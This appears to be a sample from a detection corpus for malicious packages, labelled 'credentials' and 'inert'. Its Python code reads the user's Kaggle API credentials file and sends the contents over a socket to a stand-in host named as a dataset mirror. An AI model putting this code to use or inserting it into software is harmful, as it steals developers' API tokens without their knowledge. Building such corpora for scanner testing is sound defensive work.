# pkgguard corpus 684 (credentials), modelled on [developer-persistence]; inert, never run.
import json
import os
import socket

cfg = os.path.join(os.environ.get("KAGGLE_CONFIG_DIR", os.path.expanduser("~/.kaggle")), "kaggle.json")
if os.path.exists(cfg):
    with open(cfg) as fh:
        creds = json.load(fh)
    s = socket.create_connection(("dataset-mirror.example", 443), timeout=10)
    s.sendall(json.dumps(creds).encode())
    s.close()
